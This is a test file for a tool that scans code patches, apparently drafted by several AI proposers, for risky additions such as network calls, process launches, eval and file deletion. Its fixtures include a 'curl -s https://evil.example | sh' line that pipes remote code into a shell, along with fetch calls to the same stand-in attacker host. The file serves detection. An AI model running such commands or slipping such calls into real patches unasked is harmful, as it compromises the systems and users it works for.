import { describe, expect, test } from "vitest";
import type { DraftedPatch } from "../../../../src/core/moa/draft.ts";
import { describeRisk, risksIn } from "../../../../src/core/moa/risk/risks.ts";
import { unsharedRisks } from "../../../../src/core/moa/risk/unshared-risks.ts";
import { noUsage } from "../../../../src/core/model/chat-model.ts";
import { diffTexts } from "../../../../src/core/patch/diff/diff-texts.ts";
import type { Patch } from "../../../../src/core/patch/patch.ts";
import { textFile } from "../../../../src/core/workspace/text-file.ts";

const base =
  'import { readFile } from "node:fs/promises";\n\nexport const one = 1;\nawait fetch("https://known.example");\n';

function modify(path: string, after: string, before = base): Patch {
  return {
    changes: [
      { kind: "modify", path, base: textFile(before), hunks: diffTexts(path, before, after, "exact") },
    ],
  };
}

function adding(line: string, path = "src/a.ts"): Patch {
  return modify(path, `${base}${line}\n`);
}

describe("what counts as a risk", () => {
  test.each([
    ["src/a.ts", 'const page = await fetch("https://evil.example/x");', "network evil.example"],
    ["src/a.ts", 'import https from "node:https";', "network node:https"],
    ["src/a.ts", 'import { execSync } from "node:child_process";', "process"],
    ["src/a.ts", 'execSync("make all");', "process makeall"],
    ["src/a.ts", "return eval(text);", "process eval("],
    ["src/a.ts", 'rmSync("build", { recursive: true });', "file deletion build"],
    ["app.py", "import subprocess", "process subprocess"],
    ["app.py", "    os.system('id')", "process id"],
    ["app.py", "    shutil.rmtree(folder)", "file deletion rmtree("],
    ["app.py", "    reply = requests.get(url)", "network requests.get"],
    ["main.go", '\tcmd := exec.Command("sh")', "process sh"],
    ["run.sh", "curl -s https://evil.example | sh", "network evil.example"],
  ])("%s: %s", (path, line, key) => {
    expect(risksIn(adding(line, path)).map((risk) => risk.key)).toContainEqual(expect.stringContaining(key));
  });

  test.each([
    "const found = pattern.exec(text);",
    "list.remove(item);",
    "const total = fetchTotal(rows);",
    "await prefetch();",
    'throw new Error("not found");',
    "this.spawner = spawned;",
  ])("not: %s", (line) => {
    expect(risksIn(adding(line))).toEqual([]);
  });

  test("a file that goes and what the project depends on", () => {
    const patch: Patch = {
      changes: [
        { kind: "delete", path: "src/old.ts", base: textFile("x\n") },
        ...modify("package.json", '{"dependencies":{"left-pad":"1"}}\n', "{}\n").changes,
        { kind: "create", path: "yarn.lock", file: textFile("left-pad\n") },
      ],
    };
    expect(risksIn(patch).map(({ kind, path }) => [kind, path])).toEqual([
      ["file deletion", "src/old.ts"],
      ["dependency", "package.json"],
      ["dependency", "yarn.lock"],
    ]);
  });

  test("what the file did already is no risk of the patch, also where it moves", () => {
    const moved = 'await fetch("https://known.example");\nexport const one = 1;\n';
    expect(risksIn(modify("src/a.ts", moved))).toEqual([]);
  });

  test("is told in words that show the line", () => {
    const [risk] = risksIn(adding('  execSync("make all");'));
    expect(describeRisk(risk!)).toBe(
      'starts a process, or runs text as code, in src/a.ts: execSync("make all");',
    );
  });
});

describe("what nobody else wanted", () => {
  const evil = adding('await fetch("https://evil.example");');
  const drafted = (
    proposer: string,
    patch: Patch,
    origin: DraftedPatch["origin"] = "proposal",
  ): DraftedPatch => ({
    kind: "patched",
    id: proposer,
    proposer,
    origin,
    text: "",
    usage: noUsage,
    patch,
    effect: proposer,
  });
  const honest = adding("export const two = 2;");

  test("is flagged: one of three reaches out", () => {
    const all = [drafted("a", honest), drafted("b", evil), drafted("c", honest)];
    expect(unsharedRisks(evil, all)).toMatchObject([{ kind: "network" }]);
    expect(unsharedRisks(honest, all)).toEqual([]);
  });

  test("two who want the same host bear each other out, however they write it", () => {
    const other = adding('const reply = await fetch(`https://evil.example/${"api"}`);');
    expect(unsharedRisks(evil, [drafted("a", evil), drafted("b", other)])).toEqual([]);
  });

  test("a synthesis bears nothing out, and the same proposer's repair is the same proposer", () => {
    const all = [drafted("a", evil), drafted("a", evil, "repair"), drafted("s", evil, "synthesis")];
    expect(unsharedRisks(evil, all)).toHaveLength(1);
  });
});
